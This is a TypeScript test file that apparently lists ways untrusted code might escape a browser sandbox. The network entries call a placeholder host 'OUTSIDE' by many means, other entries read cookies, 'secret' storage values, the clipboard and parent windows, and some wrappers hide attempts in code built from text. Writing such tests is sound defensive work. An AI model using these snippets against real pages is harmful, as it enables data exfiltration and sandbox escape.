/**
 * Ways out, as a program would try them: bare, from code that it makes of text (which no rewriting of ours has seen),
 * and through the objects that lead back to the realm. `reach(what)` says that something was reached.
 */
export const TO_THE_NETWORK: readonly (readonly [name: string, code: string])[] = [
  ['fetch', "await fetch('http://OUTSIDE/')"],
  [
    'the fetch of a prototype of the realm',
    "await Object.getPrototypeOf(globalThis).fetch.call(globalThis, 'http://OUTSIDE/')",
  ],
  [
    'XMLHttpRequest',
    "const request = new XMLHttpRequest(); request.open('GET', 'http://OUTSIDE/', false); request.send()",
  ],
  [
    'WebSocket',
    "await new Promise((resolve, reject) => { const socket = new WebSocket('ws://OUTSIDE/'); socket.onopen = resolve; socket.onerror = reject; })",
  ],
  [
    'EventSource',
    "await new Promise((resolve, reject) => { const source = new EventSource('http://OUTSIDE/'); source.onopen = resolve; source.onerror = reject; })",
  ],
  ['WebTransport', "await new WebTransport('https://OUTSIDE/').ready"],
  [
    'RTCPeerConnection',
    "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUTSIDE' }] }); peer.createDataChannel('x'); await peer.setLocalDescription()",
  ],
  ['importScripts', "importScripts('http://OUTSIDE/')"],
  ['import() of an address', "await import('http://OUTSIDE/')"],
  ['import() of a data: address', "await import('data:text/javascript,export default 1')"],
  [
    'import() of a data: address that imports',
    "await import('data:text/javascript,import \\'http://OUTSIDE/\\'')",
  ],
  [
    'import() of a blob',
    "await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))",
  ],
  ['a worker from an address', "new Worker('http://OUTSIDE/')"],
  ['a worker from a data: address', "new Worker('data:text/javascript,1')"],
  ['a shared worker', "new SharedWorker('http://OUTSIDE/')"],
  ['a beacon', "if (navigator.sendBeacon('http://OUTSIDE/')) await 0; else throw new Error('refused')"],
  ['a service worker', "await navigator.serviceWorker.register('http://OUTSIDE/')"],
  [
    'an image',
    "await new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = 'http://OUTSIDE/'; })",
  ],
  ['a font', "await new FontFace('x', 'url(http://OUTSIDE/)').load()"],
  ['navigation', "location.href = 'http://OUTSIDE/'; location.assign('http://OUTSIDE/')"],
  ['a new window', "if (!open('http://OUTSIDE/')) throw new Error('refused')"],
];

export const TO_STORAGE_AND_PAGE: readonly (readonly [name: string, code: string])[] = [
  [
    'IndexedDB',
    "await new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = resolve; open.onerror = reject; })",
  ],
  ['the cache storage', "await caches.open('x')"],
  ['localStorage', "localStorage.getItem('secret').length"],
  ['cookies', "if (!document.cookie.includes('secret')) throw new Error('no cookie')"],
  ['the cookie store', 'await cookieStore.getAll()'],
  ['the storage manager', 'await navigator.storage.getDirectory()'],
  ['locks', "await navigator.locks.request('x', () => {})"],
  ['the parent', 'parent.document.title.length'],
  ['the top window', "top.document.title = 'touched'"],
  ['the opener', 'opener.document.title.length'],
  [
    'self, frames and window',
    "if (self.secret || window.secret || frames.secret) await 0; else throw new Error('no secret')",
  ],
  ['a drawing surface', "new OffscreenCanvas(1, 1).getContext('2d').getImageData(0, 0, 1, 1)"],
  ['the clipboard', 'await navigator.clipboard.readText()'],
  ['a notification', "new Notification('x')"],
];

/** How a program comes to the code of an attempt. */
export const wayIn = [
  ['as a program', (code: string) => `const attempt = async () => { ${code} };`],
  [
    'in code made of text',
    (code: string) =>
      `const attempt = new Function(${JSON.stringify(`return (async () => { ${code} })();`)});`,
  ],
  [
    'through a constructor',
    (code: string) => `const attempt = (async () => {}).constructor(${JSON.stringify(code)});`,
  ],
] as const;
